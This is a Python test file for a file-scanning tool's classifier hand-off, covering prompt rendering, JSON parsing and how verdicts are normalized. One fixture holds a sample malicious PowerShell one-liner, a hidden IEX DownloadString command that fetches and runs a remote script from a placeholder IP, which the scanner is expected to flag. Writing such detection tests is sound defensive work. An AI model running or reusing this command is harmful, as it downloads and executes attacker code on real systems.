"""
FileScope Classifier Hand-off Tests

Tests for prompt rendering and verdict normalization.
"""

import json

import pytest

from filescope.models.classification import Prediction
from filescope.services.classifier import (
    build_classifier_prompt,
    format_observations,
    normalize_prediction,
    parse_classifier_json,
)
from filescope.utils.exceptions import ClassifierError, InvalidPredictionError


@pytest.fixture
def plain_report(analyzer, make_source):
    return analyzer.analyze(b"just some harmless text", make_source("notes.txt"))


@pytest.fixture
def suspicious_report(analyzer, make_source):
    content = (
        b"powershell -nop -w hidden IEX (New-Object Net.WebClient).DownloadString("
        b"'http://203.0.113.7/a.ps1')\n"
        b"eval eval eval socket connect\n"
    )
    return analyzer.analyze(content, make_source("loader.ps1", "text/plain"))


class TestPromptBuilder:
    """Tests for classifier prompt rendering."""

    def test_header_fields(self, plain_report):
        """Test file facts are included in the prompt."""
        prompt = build_classifier_prompt(plain_report)

        assert '"notes.txt"' in prompt
        assert f"{plain_report.file_info.size} bytes" in prompt
        assert '"unknown"' in prompt
        assert plain_report.hashes.sha256 in prompt
        assert f"{plain_report.entropy:.4f}" in prompt
        assert "**prediction**" in prompt

    def test_no_observations(self, plain_report):
        """Test a clean report says there is nothing notable."""
        assert format_observations(plain_report) == []
        assert "No notable static indicators." in build_classifier_prompt(plain_report)

    def test_observations(self, suspicious_report):
        """Test keywords, indicators and script text are described."""
        prompt = build_classifier_prompt(suspicious_report)

        assert "Suspicious Keywords Found" in prompt
        assert "http://203.0.113.7/a.ps1" in prompt
        assert "203.0.113.7" in prompt
        assert "Script Content Analysis" in prompt
        assert "No notable static indicators." not in prompt

    def test_top_keywords_only(self, suspicious_report):
        """Test at most five keywords are named, most frequent first."""
        line = next(
            obs for obs in format_observations(suspicious_report)
            if obs.startswith("- **Suspicious Keywords Found:**")
        )
        named = line.split("[", 1)[1].split("]", 1)[0].split(", ")

        assert len(suspicious_report.suspicious_keywords) > 5
        assert len(named) == 5
        assert named[0] == "eval"

    def test_high_entropy_threshold(self, plain_report):
        """Test the entropy observation follows the threshold."""
        assert format_observations(plain_report, high_entropy_threshold=0.5)[0].startswith(
            "- **High Entropy Detected:**"
        )
        assert format_observations(plain_report, high_entropy_threshold=7.5) == []

    def test_archive_observation(self, analyzer, make_source, zip_bytes):
        """Test archive entries are listed."""
        report = analyzer.analyze(zip_bytes, make_source("pack.zip"))
        prompt = build_classifier_prompt(report)

        assert "[readme.txt, bin/, bin/payload.exe]" in prompt

    def test_script_preview_truncated(self, analyzer, make_source):
        """Test only the preview window of script text is included."""
        report = analyzer.analyze(b"A" * 50 + b"B" * 50, make_source("x.py"))
        prompt = build_classifier_prompt(report, text_preview_chars=50)

        assert "A" * 50 in prompt
        assert "B" not in prompt.split("---")[1]


class TestParseClassifierJson:
    """Tests for JSON extraction from model output."""

    def test_plain_json(self):
        """Test a bare object is parsed."""
        assert parse_classifier_json('{"prediction": "Safe"}') == {"prediction": "Safe"}

    def test_code_fence(self):
        """Test markdown code fences are stripped."""
        content = '```json\n{"prediction": "Malicious", "riskScore": 90}\n```'
        assert parse_classifier_json(content)["riskScore"] == 90

    def test_invalid_json(self):
        """Test invalid JSON raises InvalidPredictionError."""
        with pytest.raises(InvalidPredictionError):
            parse_classifier_json("not json at all")

    def test_non_object(self):
        """Test a JSON array is rejected."""
        with pytest.raises(InvalidPredictionError) as exc_info:
            parse_classifier_json("[1, 2, 3]")
        assert "list" in exc_info.value.message


class TestNormalizePrediction:
    """Tests for verdict normalization."""

    def test_full_verdict(self, suspicious_report):
        """Test a well-formed verdict is carried over."""
        raw = {
            "prediction": "Malicious",
            "riskScore": 92,
            "summary": "PowerShell downloader.",
            "iocs": [
                {"type": "SHA256", "value": suspicious_report.hashes.sha256, "reputation": "Unknown"},
                {"type": "URL", "value": "http://203.0.113.7/a.ps1", "reputation": "Malicious"},
            ],
            "threats": ["Downloads a second stage"],
            "recommendations": ["Do not execute this file."],
            "simulatedBehavior": ["Fetches a remote script"],
            "attackTactics": [
                {"id": "T1059.001", "name": "PowerShell", "description": "Runs PowerShell"},
            ],
        }
        prediction = normalize_prediction(raw, suspicious_report)

        assert prediction.prediction is Prediction.MALICIOUS
        assert prediction.risk_score == 92
        assert len(prediction.iocs) == 2
        assert prediction.attack_tactics[0].id == "T1059.001"
        assert prediction.simulated_behavior == ["Fetches a remote script"]

    def test_from_string(self, plain_report):
        """Test a raw JSON string is accepted."""
        prediction = normalize_prediction(
            json.dumps({"prediction": "safe", "riskScore": 3}), plain_report
        )
        assert prediction.prediction is Prediction.SAFE

    def test_unknown_prediction(self, plain_report):
        """Test unrecognized or missing labels become Unknown."""
        assert normalize_prediction({"prediction": "Probably fine"}, plain_report).prediction \
            is Prediction.UNKNOWN
        assert normalize_prediction({}, plain_report).prediction is Prediction.UNKNOWN

    def test_risk_score_clamped(self, plain_report):
        """Test scores are rounded and clamped to 0-100."""
        assert normalize_prediction({"riskScore": 250}, plain_report).risk_score == 100
        assert normalize_prediction({"riskScore": -4}, plain_report).risk_score == 0
        assert normalize_prediction({"riskScore": "61.6"}, plain_report).risk_score == 62
        assert normalize_prediction({"risk_score": 40}, plain_report).risk_score == 40

    def test_risk_score_not_numeric(self, plain_report):
        """Test a non-numeric score becomes zero."""
        assert normalize_prediction({"riskScore": "high"}, plain_report).risk_score == 0

    def test_hash_ioc_added(self, plain_report):
        """Test the file hash is added as the first IOC when missing."""
        raw = {"iocs": [{"type": "URL", "value": "http://x.test"}]}
        prediction = normalize_prediction(raw, plain_report)

        assert prediction.iocs[0].type == "SHA256"
        assert prediction.iocs[0].value == plain_report.hashes.sha256
        assert prediction.iocs[0].reputation == "N/A"
        assert prediction.iocs[1].value == "http://x.test"

    def test_invalid_shape(self, plain_report):
        """Test a structurally wrong verdict raises a classifier error."""
        with pytest.raises(ClassifierError):
            normalize_prediction({"iocs": "none"}, plain_report)

    def test_document(self, plain_report):
        """Test the verdict serializes with camelCase keys."""
        document = normalize_prediction({"prediction": "Suspicious", "riskScore": 55}, plain_report) \
            .to_document()

        assert document["prediction"] == "Suspicious"
        assert document["riskScore"] == 55
        assert "simulatedBehavior" in document
        assert "attackTactics" in document
        assert document["iocs"][0]["type"] == "SHA256"
